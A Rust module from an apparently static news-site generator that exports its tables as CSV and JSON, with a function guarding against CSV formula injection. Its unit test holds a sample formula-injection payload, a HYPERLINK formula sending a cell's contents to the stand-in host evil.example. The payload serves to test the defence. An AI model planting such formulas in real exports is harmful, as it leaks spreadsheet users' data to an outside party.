//! The tables as downloads: CSV (RFC 4180: UTF-8, a header row, CRLF line
//! ends, quotes where needed) and JSON, written from the same records as
//! the pages.

use serde::Serialize;

use super::Renderer;
use super::tables::{self, Table};
use crate::error::BuildError;

/// The two download formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Json,
}

impl Format {
    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Json => "json",
        }
    }
}

fn csv(header: &[&str], rows: impl Iterator<Item = Vec<String>>) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(64 * 1024));
    let mut record = |cells: &mut dyn Iterator<Item = &str>| -> Result<(), csv::Error> {
        for cell in cells {
            writer.write_field(inert(cell).as_bytes())?;
        }
        // An empty record after its fields ends the row.
        writer.write_record(None::<&[u8]>)
    };
    record(&mut header.iter().copied())?;
    for row in rows {
        record(&mut row.iter().map(String::as_str))?;
    }
    writer.into_inner().map_err(|e| e.into_error().into())
}

/// A cell a spreadsheet will not run: one that begins with `=`, `+`, `-`,
/// `@`, a tab or a carriage return is prefixed with `'` (OWASP's rule for
/// CSV injection), unless it is a plain number ("-5"). A title such as
/// `=HYPERLINK(…)` then shows as text. JSON keeps values exact.
fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

fn json<T: Serialize>(rows: &[T]) -> Result<Vec<u8>, serde_json::Error> {
    // Compact: these files are for scripts, and at 10,000 articles the
    // figures alone are megabytes.
    let mut bytes = serde_json::to_vec(rows)?;
    bytes.push(b'\n');
    Ok(bytes)
}

fn names(links: &[super::context::Link]) -> String {
    links
        .iter()
        .map(|l| l.name.as_str())
        .collect::<Vec<_>>()
        .join("; ")
}

fn number(value: f64) -> String {
    format!("{value}")
}

#[derive(Serialize)]
struct FigureExport<'a> {
    date: &'a str,
    countries: Vec<&'a str>,
    topics: Vec<&'a str>,
    measure: &'a str,
    value: f64,
    value_max: Option<f64>,
    unit: &'a str,
    value_display: &'a str,
    text: &'a str,
    qualifier: &'a str,
    period: &'a str,
    article: &'a str,
    url: String,
    source: &'a str,
    sentence: &'a str,
}

#[derive(Serialize)]
struct TimelineExport<'a> {
    date: String,
    undated: bool,
    date_hint: String,
    event: &'a str,
    countries: &'a [String],
    topics: &'a [String],
    source: &'a str,
    url: String,
}

#[derive(Serialize)]
struct MatrixExport<'a> {
    country: &'a str,
    articles: usize,
    topics: std::collections::BTreeMap<&'a str, usize>,
}

/// The figures at `indexes` (into `site.figures`) as CSV.
fn figures_csv(
    r: &Renderer<'_>,
    indexes: impl Iterator<Item = usize>,
) -> Result<Vec<u8>, csv::Error> {
    let base_url = &r.site.config.base_url;
    csv(
        &[
            "date",
            "countries",
            "topics",
            "measure",
            "value",
            "value_max",
            "unit",
            "value_display",
            "text",
            "qualifier",
            "period",
            "article",
            "url",
            "source",
            "sentence",
        ],
        indexes.map(|i| {
            let f = &r.figures[i];
            vec![
                f.date.clone(),
                names(&f.countries),
                names(&f.topics),
                f.label.clone(),
                number(f.value),
                f.value_max.map(number).unwrap_or_default(),
                f.unit.clone(),
                f.display.clone(),
                f.text.clone(),
                f.qualifier.clone(),
                f.period.clone(),
                f.article_title.clone(),
                format!(
                    "{base_url}{}",
                    f.article_href.trim_end_matches("index.html")
                ),
                f.source.clone(),
                f.sentence.clone(),
            ]
        }),
    )
}

/// One country's figures as CSV, for its dossier.
pub fn country_figures(r: &Renderer<'_>, country: usize) -> Result<Vec<u8>, BuildError> {
    let term = &r.site.countries[country];
    figures_csv(r, term.figures.iter().copied()).map_err(|e| BuildError::Output {
        path: super::dossier::figures_csv_path(r.site, country).into(),
        message: e.to_string(),
    })
}

/// The bytes of one table's download.
pub fn table_data(r: &Renderer<'_>, table: Table, format: Format) -> Result<Vec<u8>, BuildError> {
    let site = r.site;
    let base_url = &site.config.base_url;
    let page_url = |href: &str| format!("{base_url}{}", href.trim_end_matches("index.html"));
    let path = format!("{}{}.{}", table.folder(), table.slug(), format.extension());
    let fail = |e: String| BuildError::Output {
        path: path.clone().into(),
        message: e,
    };
    match (table, format) {
        (Table::Figures, Format::Csv) => {
            figures_csv(r, 0..r.figures.len()).map_err(|e| fail(e.to_string()))
        }
        (Table::Figures, Format::Json) => json(
            &r.figures
                .iter()
                .map(|f| FigureExport {
                    date: &f.date,
                    countries: f.countries.iter().map(|l| l.name.as_str()).collect(),
                    topics: f.topics.iter().map(|l| l.name.as_str()).collect(),
                    measure: &f.label,
                    value: f.value,
                    value_max: f.value_max,
                    unit: &f.unit,
                    value_display: &f.display,
                    text: &f.text,
                    qualifier: &f.qualifier,
                    period: &f.period,
                    article: &f.article_title,
                    url: page_url(&f.article_href),
                    source: &f.source,
                    sentence: &f.sentence,
                })
                .collect::<Vec<_>>(),
        )
        .map_err(|e| fail(e.to_string())),
        (Table::Timeline, _) => {
            let events: Vec<TimelineExport<'_>> = r
                .timeline
                .iter()
                .map(|&i| {
                    let a = &site.articles[i];
                    TimelineExport {
                        date: a.meta.date.map(|d| d.to_string()).unwrap_or_default(),
                        undated: a.meta.date.is_none(),
                        date_hint: a.meta.date_hint.map(|d| d.to_string()).unwrap_or_default(),
                        event: &a.meta.title,
                        countries: &a.meta.countries,
                        topics: &a.meta.topics,
                        source: &a.meta.source,
                        url: page_url(&super::context::article_href(&a.slug)),
                    }
                })
                .collect();
            match format {
                Format::Json => json(&events).map_err(|e| fail(e.to_string())),
                Format::Csv => csv(
                    &[
                        "date",
                        "undated",
                        "date_hint",
                        "event",
                        "countries",
                        "topics",
                        "source",
                        "url",
                    ],
                    events.iter().map(|e| {
                        vec![
                            e.date.clone(),
                            if e.undated { "yes".into() } else { "no".into() },
                            e.date_hint.clone(),
                            e.event.to_string(),
                            e.countries.join("; "),
                            e.topics.join("; "),
                            e.source.to_string(),
                            e.url.clone(),
                        ]
                    }),
                )
                .map_err(|e| fail(e.to_string())),
            }
        }
        (Table::Matrix, _) => {
            let view = tables::matrix_view(site, None);
            match format {
                Format::Json => json(
                    &view
                        .rows
                        .iter()
                        .map(|row| MatrixExport {
                            country: &row.country.name,
                            articles: row.country.count,
                            topics: view
                                .topics
                                .iter()
                                .zip(&row.cells)
                                .map(|(t, c)| (t.name.as_str(), c.count))
                                .collect(),
                        })
                        .collect::<Vec<_>>(),
                )
                .map_err(|e| fail(e.to_string())),
                Format::Csv => {
                    let mut header = vec!["country", "articles"];
                    header.extend(view.topics.iter().map(|t| t.name.as_str()));
                    csv(
                        &header,
                        view.rows.iter().map(|row| {
                            let mut cells =
                                vec![row.country.name.clone(), row.country.count.to_string()];
                            cells.extend(row.cells.iter().map(|c| c.count.to_string()));
                            cells
                        }),
                    )
                    .map_err(|e| fail(e.to_string()))
                }
            }
        }
        (Table::People, _) => {
            let people: Vec<_> = site
                .people
                .iter()
                .map(|p| tables::person_record(site, p, true))
                .collect();
            match format {
                Format::Json => json(&people).map_err(|e| fail(e.to_string())),
                Format::Csv => csv(
                    &["name", "roles", "articles", "titles"],
                    people.iter().map(|p| {
                        vec![
                            p.name.clone(),
                            p.roles.join("; "),
                            p.count.to_string(),
                            names(&p.articles),
                        ]
                    }),
                )
                .map_err(|e| fail(e.to_string())),
            }
        }
        (Table::Sources, _) => {
            let sources = tables::source_records(r);
            match format {
                Format::Json => json(&sources).map_err(|e| fail(e.to_string())),
                Format::Csv => csv(
                    &["source", "articles", "first", "last"],
                    sources.iter().map(|s| {
                        vec![
                            s.name.clone(),
                            s.articles.to_string(),
                            s.first.clone(),
                            s.last.clone(),
                        ]
                    }),
                )
                .map_err(|e| fail(e.to_string())),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_made_inert_and_numbers_stay_numbers() {
        let bytes = csv(
            &["title", "=header"],
            [vec![
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".to_string(),
                "-5".to_string(),
            ]]
            .into_iter(),
        )
        .unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.starts_with("title,'=header\r\n"), "{text}");
        assert!(text.contains("\"'=HYPERLINK("), "{text}");
        assert!(text.ends_with(",-5\r\n"), "{text}");
        for cell in ["+1+2", "@SUM(A1)", "\tx", "\rx", "-x"] {
            assert!(inert(cell).starts_with('\''), "{cell}");
        }
        assert_eq!(inert("Baku"), "Baku");
    }
}
